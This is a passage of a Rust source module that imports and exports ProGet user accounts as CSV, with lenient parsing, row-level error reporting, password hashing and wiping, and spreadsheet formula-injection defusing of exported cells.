//! Users in and out as CSV, the format of Inedo's own `pgutil` scripts:
//! a header `Name,DisplayName,Email,Password` and an optional `Groups`
//! column whose groups are separated by `;`.
//!
//! Reading is forgiving about what spreadsheet programs write: quoted fields
//! (with commas, quotes and line breaks inside), a byte order mark, CRLF or
//! LF line ends, `;` or tab as the field separator (detected from the header
//! line, or given by an Excel `sep=;` first line), header names in any letter
//! case, and blank rows. A row with a problem does not stop the reading: it
//! becomes a [`RowError`] with the line it starts on, and the user decides
//! whether to skip such rows ([`BadRows`]).
//!
//! Importing is in three steps: [`parse_csv`], [`preview`] (what would
//! happen, in the words of the [import plan](crate::plan)), and [`apply`],
//! which hashes every password at once, as [`password::hash`] does. To hash
//! elsewhere (in chunks in a browser, on all cores in the command-line tool)
//! take the [`password_jobs`], hash them, and call [`apply_with_hashes`].
//!
//! What a cell means:
//! - `Name`, the only required column, matches an existing user ignoring
//!   letter case (as ProGet does); the file's spelling is kept. A new name
//!   adds a user at the end.
//! - `DisplayName`: an empty cell leaves the display name as it is (a new
//!   user's is its name).
//! - `Email`: an empty cell removes the address (ProGet's export omits an
//!   empty one, so that is what a blank means there).
//! - `Password`: a plaintext password, hashed on import; an empty cell
//!   leaves the password as it is.
//! - `Groups`: `;`-separated names; the cell replaces the user's groups,
//!   so an empty cell takes the user out of every group, while a CSV
//!   without the column leaves groups alone. A group matching a known one
//!   ignoring letter case takes the known spelling; groups the file lacks
//!   are declared.
//!
//! Names, display names, emails and groups are trimmed of surrounding
//! spaces; passwords are taken exactly.
//!
//! Records are read by BurntSushi's `csv` crate (around it: the separator
//! sniffing, the `sep=` line, the byte order mark and UTF-16) and written by
//! its core, `csv-core`. Every CSV the core writes ([`to_csv`] and the
//! [credentials sheet](crate::generate::credentials_csv)) is safe to open in
//! a spreadsheet: a cell that a spreadsheet would run as a formula (one
//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written
//! with a `'` before it and quoted, as OWASP's CSV injection guidance says
//! ([`defuse`]), and a cell holding a `,` or `;` is quoted, so no
//! spreadsheet splits it, whatever its list separator. Reading takes that `'` off again
//! (in every column but `Password`, which is taken exactly), so an export
//! reads back as it was.
//!
//! Plaintext passwords read from a CSV are secrets: [`CsvRow`] and
//! [`PasswordJob`] wipe them (`zeroize`) when dropped, and so does the copy
//! the reader makes of a text with CR line ends.
//!
//! ```
//! use proget_users_core::{csv, model::{User, UsersFile}};
//! let mut file = UsersFile::new();
//! file.users.push(User::new("jdoe"));
//! let text = "Name;DisplayName;Email;Password;Groups\r\n\
//!             JDoe;John Doe;john@example.com;;Developers\r\n\
//!             asmith;Ann Smith;ann@example.com;s3cret;\r\n";
//! let users = csv::parse_csv(text).unwrap();
//! let preview = csv::preview(&file, &users);
//! assert_eq!(preview.changes.users_added, ["asmith"]);
//! assert_eq!(preview.changes.users_updated[0].user_name, "jdoe");
//! let done = csv::apply(&mut file, &users, csv::BadRows::Refuse).unwrap();
//! assert_eq!(done.to_string(), "imported CSV: added 1 user, updated 1 user, declared 1 group, hashed 1 password");
//! assert_eq!(file.users[0].groups, ["Developers"]);
//! assert!(file.users[1].password_bytes.is_some() && file.users[1].password.is_none());
//! ```

use crate::model::{User, UsersFile};
use crate::names::{self, GroupNames, UserIndex};
use crate::password::{self, PasswordError, PasswordHash};
use crate::plan::{self, ImportPlan, UserUpdate};
use crate::report::{self, Report};
use crate::text::{plural, quoted};
use crate::validate::is_plausible_email;
use foldhash::{HashMap, HashMapExt, HashSet, HashSetExt};
use std::borrow::Cow;
use std::fmt;
use zeroize::{Zeroize, Zeroizing};

/// The header [`to_csv`] writes.
pub const HEADER: &str = "Name,DisplayName,Email,Password,Groups";

/// A column the importer knows.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Column {
    Name,
    DisplayName,
    Email,
    Password,
    Groups,
}

impl Column {
    /// Every column, in the order [`to_csv`] writes them.
    pub const ALL: [Column; 5] = [
        Column::Name,
        Column::DisplayName,
        Column::Email,
        Column::Password,
        Column::Groups,
    ];

    /// The column's name in a header.
    pub fn name(self) -> &'static str {
        match self {
            Column::Name => "Name",
            Column::DisplayName => "DisplayName",
            Column::Email => "Email",
            Column::Password => "Password",
            Column::Groups => "Groups",
        }
    }

    /// The column a header cell names: the names above in any letter case,
    /// with spaces, `_` and `-` ignored, and `UserName`, `EmailAddress` and
    /// `Group` as synonyms.
    pub fn from_header(cell: &str) -> Option<Column> {
        let key: String = cell
            .chars()
            .filter(|c| !matches!(c, ' ' | '_' | '-'))
            .collect::<String>()
            .to_lowercase();
        Some(match key.as_str() {
            "name" | "username" => Column::Name,
            "displayname" => Column::DisplayName,
            "email" | "emailaddress" => Column::Email,
            "password" => Column::Password,
            "groups" | "group" => Column::Groups,
            _ => return None,
        })
    }
}

impl fmt::Display for Column {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Why a CSV could not be read at all. (A bad row is a [`RowError`]
/// instead.)
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CsvError {
    /// No header line.
    Empty,
    /// The bytes are not UTF-8 (nor UTF-16 with a byte order mark).
    NotUtf8 { line: usize },
    /// A quoted field opened on `line` never closes.
    UnterminatedQuote { line: usize },
    /// The header names columns the importer does not know.
    UnknownColumns(Vec<String>),
    /// The header lacks required columns.
    MissingColumns(Vec<Column>),
    /// The header names a column twice.
    DuplicateColumn(Column),
}

impl fmt::Display for CsvError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let known = Column::ALL.map(Column::name).join(", ");
        match self {
            CsvError::Empty => f.write_str("the CSV is empty: it needs a header line"),
            CsvError::NotUtf8 { line } => {
                write!(
                    f,
                    "line {line}: the CSV is not UTF-8 text; save it as UTF-8"
                )
            }
            CsvError::UnterminatedQuote { line } => {
                write!(f, "line {line}: a quoted field is never closed")
            }
            CsvError::UnknownColumns(names) => {
                let names: Vec<String> = names.iter().map(|n| quoted(n).to_string()).collect();
                write!(
                    f,
                    "the header has unknown column{} {} (the columns are {known})",
                    if names.len() == 1 { "" } else { "s" },
                    names.join(", ")
                )
            }
            CsvError::MissingColumns(columns) => {
                let names: Vec<&str> = columns.iter().map(|c| c.name()).collect();
                write!(
                    f,
                    "the header lacks the column{} {} (the columns are {known})",
                    if names.len() == 1 { "" } else { "s" },
                    names.join(", ")
                )
            }
            CsvError::DuplicateColumn(column) => {
                write!(f, "the header names the column {column} twice")
            }
        }
    }
}

impl std::error::Error for CsvError {}

/// A row that cannot be imported, with the 1-based line it starts on.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RowError {
    pub line: usize,
    pub problem: RowProblem,
}

/// What is wrong with a row.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RowProblem {
    /// The `Name` cell is empty.
    EmptyName,
    /// The name holds a line break or another control character.
    ControlCharacterInName,
    /// The row has more or fewer fields than the header.
    FieldCount { expected: usize, found: usize },
    /// The `Email` cell does not look like an address.
    ImplausibleEmail(String),
    /// An earlier row names the same user (ignoring letter case).
    DuplicateName { name: String, first_line: usize },
}

impl fmt::Display for RowProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RowProblem::EmptyName => f.write_str("the name is empty"),
            RowProblem::ControlCharacterInName => {
                f.write_str("the name holds a line break or control character")
            }
            RowProblem::FieldCount { expected, found } => {
                write!(f, "{found} fields where the header has {expected}")
            }
            RowProblem::ImplausibleEmail(email) => {
                write!(f, "{} does not look like an email address", quoted(email))
            }
            RowProblem::DuplicateName { name, first_line } => {
                write!(
                    f,
                    "the user {} is already on line {first_line}",
                    quoted(name)
                )
            }
        }
    }
}

impl fmt::Display for RowError {
    /// `line 4: the name is empty`
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.problem)
    }
}

/// A CSV read by [`parse_csv`]: the good rows and the bad ones.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CsvUsers {
    /// The field separator found: `,`, `;` or a tab.
    pub separator: char,
    /// The header's columns, in order (`None` for a blank header cell,
    /// whose column is ignored).
    pub columns: Vec<Option<Column>>,
    /// The rows that can be imported, in CSV order.
    pub rows: Vec<CsvRow>,
    /// The rows that cannot, in CSV order.
    pub bad_rows: Vec<RowError>,
}

impl CsvUsers {
    /// Whether the header has `column`.
    pub fn has_column(&self, column: Column) -> bool {
        self.columns.contains(&Some(column))
    }
}

/// One good row. `None` means "leave as it is" (an absent column, or an
/// empty cell where that means no change; see the [module docs](self)).
#[derive(Clone, PartialEq, Eq)]
pub struct CsvRow {
    /// The 1-based line the row starts on.
    pub line: usize,
    pub name: String,
    pub display_name: Option<String>,
    /// `Some(None)`: remove the address.
    pub email: Option<Option<String>>,
    /// A plaintext password: a secret, never printed by `Debug` and wiped
    /// when the row is dropped.
    pub password: Option<String>,
    /// `Some(vec![])`: leave every group.
    pub groups: Option<Vec<String>>,
}

impl fmt::Debug for CsvRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CsvRow")
            .field("line", &self.line)
            .field("name", &self.name)
            .field("display_name", &self.display_name)
            .field("email", &self.email)
            .field("password", &self.password.as_ref().map(|_| "<redacted>"))
            .field("groups", &self.groups)
            .finish()
    }
}

impl Drop for CsvRow {
    /// Wipes the plaintext password.
    fn drop(&mut self) {
        self.password.zeroize();
    }
}

/// Reads CSV bytes: UTF-8 (with or without a byte order mark), or UTF-16
/// with a byte order mark (Excel's "Unicode text").
pub fn parse_csv_bytes(bytes: &[u8]) -> Result<CsvUsers, CsvError> {
    let utf16 = |big: bool| {
        let units = bytes[2..].chunks(2).map(|c| {
            let pair = [c[0], c.get(1).copied().unwrap_or(0)];
            if big {
                u16::from_be_bytes(pair)
            } else {
                u16::from_le_bytes(pair)
            }
        });
        char::decode_utf16(units)
            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect::<String>()
    };
    match bytes {
        [0xFF, 0xFE, ..] => parse_csv(&utf16(false)),
        [0xFE, 0xFF, ..] => parse_csv(&utf16(true)),
        _ => match std::str::from_utf8(bytes) {
            Ok(text) => parse_csv(text),
            Err(e) => {
                let before = &bytes[..e.valid_up_to()];
                let line = 1 + before.iter().filter(|&&b| b == b'\n').count();
                Err(CsvError::NotUtf8 { line })
            }
        },
    }
}

/// Reads a users CSV (see the [module docs](self) for what it accepts).
/// Fails only when the whole text is unusable: no header, an unknown or
/// missing column, a quote never closed. Problems of single rows are in
/// [`CsvUsers::bad_rows`].
///
/// ```
/// use proget_users_core::csv::{parse_csv, RowProblem};
/// let users = parse_csv("\u{feff}name,email\n\"Doe, John\",j@example.com\n,x@example.com\n").unwrap();
/// assert_eq!(users.rows[0].name, "Doe, John");
/// assert_eq!(users.bad_rows[0].line, 3);
/// assert_eq!(users.bad_rows[0].problem, RowProblem::EmptyName);
/// ```
pub fn parse_csv(text: &str) -> Result<CsvUsers, CsvError> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let (separator, text, first_line) = separator_of(text);
    // The reader counts lines by `\n`; CR and CRLF line ends become `\n`
    // first (inside quotes too, as the docs promise), so every line is
    // counted as an editor shows it. The copy may hold passwords: wiped.
    let text: Zeroizing<String> = Zeroizing::new(if text.contains('\r') {
        text.replace("\r\n", "\n").replace('\r', "\n")
    } else {
        text.to_owned()
    });
    let records = read_records(&text, separator, first_line)?;
    let mut records = records.into_iter();
    let header = loop {
        match records.next() {
            None => return Err(CsvError::Empty),
            Some(r) if r.is_blank() => continue,
            Some(r) => break r,
        }
    };
    let columns = header_columns(&header.fields)?;
    let at = |c: Column| columns.iter().position(|x| *x == Some(c));
    let (name_at, display_at, email_at, password_at, groups_at) = (
        at(Column::Name).unwrap_or(0),
        at(Column::DisplayName),
        at(Column::Email),
        at(Column::Password),
        at(Column::Groups),
    );

    let mut rows = Vec::new();
    let mut bad_rows = Vec::new();
    let mut seen: HashMap<String, usize> = HashMap::new();
    for record in records {
        if record.is_blank() {
            continue;
        }
        let line = record.line;
        let bad = |problem| RowError { line, problem };
        if record.fields.len() != columns.len() {
            bad_rows.push(bad(RowProblem::FieldCount {
                expected: columns.len(),
                found: record.fields.len(),
            }));
            continue;
        }
        let cell = |i: usize| undefuse(record.fields[i].trim()).trim();
        let name = cell(name_at);
        if name.is_empty() {
            bad_rows.push(bad(RowProblem::EmptyName));
            continue;
        }
        if name.chars().any(char::is_control) {
            bad_rows.push(bad(RowProblem::ControlCharacterInName));
            continue;
        }
        let email = email_at.map(cell);
        if let Some(email) = email.filter(|e| !e.is_empty() && !is_plausible_email(e)) {
            bad_rows.push(bad(RowProblem::ImplausibleEmail(email.to_owned())));
            continue;
        }
        let folded = names::fold(name).into_owned();
        if let Some(&first_line) = seen.get(&folded) {
            bad_rows.push(bad(RowProblem::DuplicateName {
                name: name.to_owned(),
                first_line,
            }));
            continue;
        }
        seen.insert(folded, line);
        let non_empty = |s: &str| (!s.is_empty()).then(|| s.to_owned());
        rows.push(CsvRow {
            line,
            name: name.to_owned(),
            display_name: display_at.map(cell).and_then(non_empty),
            email: email.map(non_empty),
            password: password_at
                .map(|i| record.fields[i].as_str())
                .and_then(non_empty),
            groups: groups_at.map(|i| split_groups(cell(i))),
        });
    }
    Ok(CsvUsers {
        separator,
        columns,
        rows,
        bad_rows,
    })
}

/// The groups of a `Groups` cell: split on `;`, trimmed, blanks dropped,
/// each once.
fn split_groups(cell: &str) -> Vec<String> {
    let mut seen = HashSet::new();
    cell.split(';')
        .map(str::trim)
        .filter(|g| !g.is_empty() && seen.insert(g.to_string()))
        .map(str::to_owned)
        .collect()
}

fn header_columns(cells: &[String]) -> Result<Vec<Option<Column>>, CsvError> {
    let mut columns = Vec::with_capacity(cells.len());
    let mut unknown = Vec::new();
    for cell in cells {
        let cell = cell.trim();
        if cell.is_empty() {
            columns.push(None);
            continue;
        }
        match Column::from_header(cell) {
            Some(c) if columns.contains(&Some(c)) => return Err(CsvError::DuplicateColumn(c)),
            Some(c) => columns.push(Some(c)),
            None => unknown.push(cell.to_owned()),
        }
    }
    if !unknown.is_empty() {
        return Err(CsvError::UnknownColumns(unknown));
    }
    if !columns.contains(&Some(Column::Name)) {
        return Err(CsvError::MissingColumns(vec![Column::Name]));
    }
    Ok(columns)
}

/// The separator, the text from the header on, and the line the header
/// starts on. An Excel `sep=X` first line names the separator; otherwise
/// it is whichever of `,`, `;` and tab the first non-blank line holds most
/// of (outside quotes), `,` on a tie.
fn separator_of(text: &str) -> (char, &str, usize) {
    let first_end = text.find(['\r', '\n']).unwrap_or(text.len());
    let first = &text[..first_end];
    if let Some(sep) = first
        .strip_prefix("sep=")
        .or_else(|| first.strip_prefix("SEP="))
    {
        let mut chars = sep.chars();
        if let (Some(c), None) = (chars.next(), chars.next()) {
            let rest = &text[first_end..];
            let rest = rest
                .strip_prefix("\r\n")
                .or_else(|| rest.strip_prefix('\n'))
                .or_else(|| rest.strip_prefix('\r'))
                .unwrap_or(rest);
            return (c, rest, 2);
        }
    }
    let header = text
        .split(['\r', '\n'])
        .find(|l| !l.trim().is_empty())
        .unwrap_or("");
    let (mut comma, mut semicolon, mut tab, mut quoted) = (0, 0, 0, false);
    for c in header.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' if !quoted => comma += 1,
            ';' if !quoted => semicolon += 1,
            '\t' if !quoted => tab += 1,
            _ => {}
        }
    }
    let sep = if semicolon > comma && semicolon >= tab {
        ';'
    } else if tab > comma && tab > semicolon {
        '\t'
    } else {
        ','
    };
    (sep, text, 1)
}

/// One CSV record and the line it starts on. Its fields may hold a
/// password: wiped when dropped.
struct Record {
    line: usize,
    fields: Vec<String>,
}

impl Record {
    fn is_blank(&self) -> bool {
        self.fields.iter().all(|f| f.trim().is_empty())
    }
}

impl Drop for Record {
    fn drop(&mut self) {
        self.fields.zeroize();
    }
}

/// Splits text (with `\n` line ends) into records with the `csv` crate:
/// RFC 4180, leniently (a quote inside an unquoted field, or after a
/// closing quote, is kept as a character; rows may have any number of
/// fields; blank lines are skipped). `first_line` is the line `text`
/// starts on.
fn read_records(text: &str, sep: char, first_line: usize) -> Result<Vec<Record>, CsvError> {
    let Ok(delimiter) = u8::try_from(sep) else {
        return Err(CsvError::Empty);
    };
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let mut records = Vec::new();
    let mut record = ::csv::StringRecord::new();
    let mut last_start = 0;
    loop {
        match reader.read_record(&mut record) {
            Ok(true) => {}
            Ok(false) => break,
            // The text is UTF-8 and every separator is ASCII: fields are
            // UTF-8 too, so this is not reached; reported all the same.
            Err(_) => {
                let line = reader.position().line() as usize;
                return Err(CsvError::NotUtf8 {
                    line: line + first_line - 1,
                });
            }
        }
        let (line, byte) = record
            .position()
            .map_or((1, 0), |p| (p.line() as usize, p.byte() as usize));
        // The position is taken before the blank lines the reader skips.
        let blank = text
            .get(byte..)
            .map_or(0, |rest| rest.bytes().take_while(|&b| b == b'\n').count());
        let line = line + blank;
        last_start = byte + blank;
        records.push(Record {
            line: line + first_line - 1,
            fields: record.iter().map(str::to_owned).collect(),
        });
    }
    // A quote never closed swallows the rest of the text into the last
    // record, which the reader accepts; it is an error here.
    if let Some(line) = open_quote_line(text.get(last_start..).unwrap_or(""), delimiter) {
        let before = text.get(..last_start).unwrap_or("");
        let line = first_line + before.matches('\n').count() + line;
        return Err(CsvError::UnterminatedQuote { line });
    }
    Ok(records)
}

/// The line (0-based, within `record`) of a quote that opens a field of the
/// raw `record` and never closes, as `csv` reads quotes: one opens a field
/// only as its first character, and `""` inside is a quote.
fn open_quote_line(record: &str, sep: u8) -> Option<usize> {
    let bytes = record.as_bytes();
    let (mut i, mut line, mut at_start) = (0, 0, true);
    while i < bytes.len() {
        match bytes[i] {
            b'"' if at_start => {
                let opened = line;
                i += 1;
                loop {
                    match bytes.get(i) {
                        None => return Some(opened),
                        Some(b'"') if bytes.get(i + 1) == Some(&b'"') => i += 2,
                        Some(b'"') => break,
                        Some(b'\n') => {
                            line += 1;
                            i += 1;
                        }
                        Some(_) => i += 1,
                    }
                }
                at_start = false;
            }
            b'\n' => {
                line += 1;
                at_start = true;
            }
            b if b == sep => at_start = true,
            _ => at_start = false,
        }
        i += 1;
    }
    None
}

/// What to do with bad rows when applying.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum BadRows {
    /// Import nothing while there are bad rows.
    #[default]
    Refuse,
    /// Import the good rows, skipping the bad.
    Skip,
}

/// What importing a CSV would do, before doing it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CsvPreview {
    /// The changes, as an import plan: `groups_added` are the groups to
    /// declare, `users_added` and `users_updated` the users (updates
    /// named as the file has them).
    pub changes: ImportPlan,
    /// Users the CSV names whose rows change nothing.
    pub unchanged: Vec<String>,
    /// The rows that cannot be imported.
    pub bad_rows: Vec<RowError>,
}

impl CsvPreview {
    /// The preview one change a line (as [`ImportPlan::lines`]), then a
    /// `bad-row` line for each bad row.
    pub fn lines(&self) -> Vec<String> {
        report::lines(self)
    }
}

impl Report for CsvPreview {
    fn each_line(&self, line: &mut dyn FnMut(fmt::Arguments<'_>) -> fmt::Result) -> fmt::Result {
        self.changes.each_line(line)?;
        for e in &self.bad_rows {
            line(format_args!("bad-row {e}"))?;
        }
        Ok(())
    }
}

impl fmt::Display for CsvPreview {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        report::write(self, f)
    }
}

/// What an import did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CsvImported {
    pub users_added: Vec<String>,
    pub users_updated: Vec<String>,
    pub groups_added: Vec<String>,
    /// How many passwords were hashed and set.
    pub passwords_set: usize,
    /// Bad rows left out (with [`BadRows::Skip`]).
    pub rows_skipped: Vec<RowError>,
}

impl fmt::Display for CsvImported {
    /// `imported CSV: added 2 users, updated 1 user, hashed 3 passwords`;
    /// parts that are zero are left out.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let count = |n: usize, verb: &str, one: &str, many: &str| {
            (n > 0).then(|| format!("{verb} {}", plural(n, one, many)))
        };
        let parts = report::summary([
            count(self.users_added.len(), "added", "user", "users"),
            count(self.users_updated.len(), "updated", "user", "users"),
            count(self.groups_added.len(), "declared", "group", "groups"),
            count(self.passwords_set, "hashed", "password", "passwords"),
            count(self.rows_skipped.len(), "skipped", "bad row", "bad rows"),
        ]);
        match parts {
            None => f.write_str("imported CSV: nothing changed"),
            Some(parts) => write!(f, "imported CSV: {parts}"),
        }
    }
}

/// Why an import was refused; the file is then unchanged.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CsvApplyError {
    /// There are bad rows and [`BadRows::Refuse`] was asked.
    BadRows(Vec<RowError>),
    /// No hash was given for the password of the row on `line`.
    MissingHash {
        line: usize,
    },
    Password(PasswordError),
}

impl fmt::Display for CsvApplyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CsvApplyError::BadRows(rows) => {
                write!(
                    f,
                    "{} (fix or skip them)",
                    plural(rows.len(), "bad row", "bad rows")
                )?;
                for row in rows.iter().take(5) {
                    write!(f, "; {row}")?;
                }
                if rows.len() > 5 {
                    f.write_str("; ...")?;
                }
                Ok(())
            }
            CsvApplyError::MissingHash { line } => {
                write!(f, "line {line}: the password was not hashed")
            }
            CsvApplyError::Password(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for CsvApplyError {}

impl From<PasswordError> for CsvApplyError {
    fn from(e: PasswordError) -> Self {
        CsvApplyError::Password(e)
    }
}

/// A password to hash: the index of its row in [`CsvUsers::rows`] and the
/// plaintext (a secret, never printed by `Debug`, and wiped when the job is
/// dropped: take it with `std::mem::take` to hand it on).
#[derive(Clone, PartialEq, Eq)]
pub struct PasswordJob {
    pub row: usize,
    pub password: String,
}

impl fmt::Debug for PasswordJob {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("PasswordJob")
            .field("row", &self.row)
            .field("password", &"<redacted>")
            .finish()
    }
}

impl Drop for PasswordJob {
    fn drop(&mut self) {
        self.password.zeroize();
    }
}

/// The passwords an import would hash, for hashing elsewhere; hand the
/// results to [`apply_with_hashes`] as `(job.row, hash)`.
pub fn password_jobs(csv: &CsvUsers) -> Vec<PasswordJob> {
    csv.rows
        .iter()
        .enumerate()
        .filter_map(|(row, r)| {
            r.password
                .clone()
                .map(|password| PasswordJob { row, password })
        })
        .collect()
}

/// What one row does to the file.
enum RowAction {
    Add(User),
    /// The update, and the user as it becomes.
    Update(Box<UserUpdate>, User),
    Unchanged(String),
}

/// Works out every row's action (without passwords: those are set by the
/// caller, so a preview never hashes). Linear: the file's users are indexed
/// once ([`UserIndex`]) and matched by ProGet's rule ([`UserIndex::find`]).
fn plan_rows(file: &UsersFile, csv: &CsvUsers) -> (Vec<RowAction>, Vec<String>) {
    let index = UserIndex::of(file);
    let mut groups = GroupNames::of(file);
    let actions = csv
        .rows
        .iter()
        .map(|row| {
            let row_groups = row.groups.as_ref().map(|g| groups.adopt(g));
            match index.find(&row.name) {
                None => {
                    let mut user = User::new(row.name.clone());
                    if let Some(d) = &row.display_name {
                        user.set_display_name(Some(d.clone()));
                    }
                    if let Some(Some(e)) = &row.email {
                        user.set_email_address(Some(e.clone()));
                    }
                    if let Some(g) = row_groups {
                        user.set_groups(g);
                    }
                    RowAction::Add(user)
                }
                Some(i) => update_row(&file.users[i], row, row_groups),
            }
        })
        .collect();
    (actions, groups.take_new())
}

/// What a row does to an existing user.
fn update_row(old: &User, row: &CsvRow, groups: Option<Vec<String>>) -> RowAction {
    let mut update = UserUpdate {
        user_name: old.user_name.clone(),
        password_changed: row.password.is_some(),
        ..UserUpdate::default()
    };
    let mut changed = row.password.is_some();
    let display = row
        .display_name
        .as_deref()
        .filter(|d| plan::set(&old.display_name) != Some(*d));
    let email = row
        .email
        .as_ref()
        .filter(|e| plan::set(&old.email_address) != e.as_deref());
    let groups = groups.filter(|g| !names::same_groups(&old.groups, g));
    if display.is_none() && email.is_none() && groups.is_none() && !changed {
        return RowAction::Unchanged(old.user_name.clone());
    }
    let mut user = old.clone();
    if let Some(d) = display {
        let from = plan::set(&old.display_name).map(str::to_owned);
        update.display_name = Some((from, Some(d.to_owned())));
        user.set_display_name(Some(d.to_owned()));
        changed = true;
    }
    if let Some(e) = email {
        let from = plan::set(&old.email_address).map(str::to_owned);
        update.email = Some((from, e.clone()));
        user.set_email_address(e.clone());
        changed = true;
    }
    if let Some(g) = groups {
        (update.groups_joined, update.groups_left) = names::group_changes(&old.groups, &g);
        user.set_groups(g);
        changed = true;
    }
    debug_assert!(changed);
    RowAction::Update(Box::new(update), user)
}

/// What [`apply`] would do to `file`, changing nothing and hashing nothing.
pub fn preview(file: &UsersFile, csv: &CsvUsers) -> CsvPreview {
    let (actions, groups_added) = plan_rows(file, csv);
    let mut changes = ImportPlan {
        groups_added,
        ..ImportPlan::default()
    };
    let mut unchanged = Vec::new();
    for action in actions {
        match action {
            RowAction::Add(user) => changes.users_added.push(user.user_name),
            RowAction::Update(update, _) => changes.users_updated.push(*update),
            RowAction::Unchanged(name) => unchanged.push(name),
        }
    }
    CsvPreview {
        changes,
        unchanged,
        bad_rows: csv.bad_rows.clone(),
    }
}

/// Imports the CSV's users into `file`, hashing every password (which takes
/// a while for many: see [`password_jobs`] to hash elsewhere). With bad
/// rows and [`BadRows::Refuse`] nothing changes.
pub fn apply(
    file: &mut UsersFile,
    csv: &CsvUsers,
    bad_rows: BadRows,
) -> Result<CsvImported, CsvApplyError> {
    check_bad_rows(csv, bad_rows)?;
    // Hashed from the rows themselves: no copy of a password is made.
    let mut hashes = Vec::new();
    for (row, r) in csv.rows.iter().enumerate() {
        if let Some(plaintext) = &r.password {
            hashes.push((row, password::hash(plaintext)?));
        }
    }
    apply_with_hashes(file, csv, bad_rows, hashes)
}

fn check_bad_rows(csv: &CsvUsers, bad_rows: BadRows) -> Result<(), CsvApplyError> {
    if bad_rows == BadRows::Refuse && !csv.bad_rows.is_empty() {
        return Err(CsvApplyError::BadRows(csv.bad_rows.clone()));
    }
    Ok(())
}

/// [`apply`] with the passwords hashed already: `hashes` pairs each
/// [`PasswordJob::row`] with the hash of its password. Every job needs its
/// hash, or nothing changes.
pub fn apply_with_hashes(
    file: &mut UsersFile,
    csv: &CsvUsers,
    bad_rows: BadRows,
    hashes: impl IntoIterator<Item = (usize, PasswordHash)>,
) -> Result<CsvImported, CsvApplyError> {
    check_bad_rows(csv, bad_rows)?;
    let mut hashes: HashMap<usize, PasswordHash> = hashes.into_iter().collect();
    let unhashed = csv
        .rows
        .iter()
        .enumerate()
        .find(|(row, r)| r.password.is_some() && !hashes.contains_key(row));
    if let Some((_, r)) = unhashed {
        return Err(CsvApplyError::MissingHash { line: r.line });
    }
    let (actions, groups_added) = plan_rows(file, csv);
    // Rows that update a user, by the user's index: the file does not
    // change until every action is known, so the indices hold.
    let index = UserIndex::of(file);
    let targets: Vec<Option<usize>> = actions
        .iter()
        .map(|a| match a {
            RowAction::Update(update, _) => index.exact(&update.user_name),
            _ => None,
        })
        .collect();
    drop(index);
    let mut done = CsvImported {
        rows_skipped: csv.bad_rows.clone(),
        ..CsvImported::default()
    };
    for ((row, action), target) in actions.into_iter().enumerate().zip(targets) {
        let hash = if csv.rows[row].password.is_some() {
            hashes.remove(&row)
        } else {
            None
        };
        let set_password = |user: &mut User| match hash {
            Some(h) => {
                user.set_password_hash(h.password_bytes, h.salt_bytes);
                1
            }
            None => 0,
        };
        match action {
            RowAction::Add(mut user) => {
                done.passwords_set += set_password(&mut user);
                done.users_added.push(user.user_name.clone());
                file.users.push(user);
            }
            RowAction::Update(_, mut user) => {
                done.passwords_set += set_password(&mut user);
                done.users_updated.push(user.user_name.clone());
                if let Some(slot) = target.and_then(|i| file.users.get_mut(i)) {
                    *slot = user;
                }
            }
            RowAction::Unchanged(_) => {}
        }
    }
    file.groups.extend(groups_added.iter().cloned());
    done.groups_added = groups_added;
    Ok(done)
}

/// The users of `file` as CSV (header [`HEADER`], CRLF line ends, cells
/// [defused](defuse) and quoted where needed), without secrets: the `Password`
/// column is empty. `users` picks users by exact name (unknown names are
/// ignored); `None` takes all. Users come in file order. Reading the text
/// back with [`parse_csv`] gives the same names, display names, emails and
/// groups (a group name holding `;` cannot survive that, as `;` separates
/// groups).
///
/// ```
/// use proget_users_core::{csv::to_csv, model::{User, UsersFile}};
/// let mut file = UsersFile::new();
/// let mut user = User::new("jDoe");
/// user.set_display_name(Some("=Doe, John".into()));
/// user.set_groups(vec!["Dev".into(), "Ops".into()]);
/// file.users.push(user);
/// assert_eq!(to_csv(&file, None), "Name,DisplayName,Email,Password,Groups\r\njDoe,\"'=Doe, John\",,,\"Dev;Ops\"\r\n");
/// ```
pub fn to_csv(file: &UsersFile, users: Option<&[&str]>) -> String {
    let wanted: Option<HashSet<&str>> = users.map(|u| u.iter().copied().collect());
    let chosen = || {
        file.users.iter().filter(|user| {
            wanted
                .as_ref()
                .is_none_or(|w| w.contains(user.user_name.as_str()))
        })
    };
    fn text(v: &Option<String>) -> &str {
        v.as_deref().unwrap_or("")
    }
    let mut sheet = Sheet::new(
        HEADER,
        chosen().map(|u| {
            let groups: usize = u.groups.iter().map(|g| g.len() + 1).sum();
            u.user_name.len() + text(&u.display_name).len() + text(&u.email_address).len() + groups
        }),
        Column::ALL.len(),
    );
    for user in chosen() {
        let groups = user.groups.join(";");
        sheet.row(&[
            &user.user_name,
            text(&user.display_name),
            text(&user.email_address),
            "",
            &groups,
        ]);
    }
    sheet.finish()
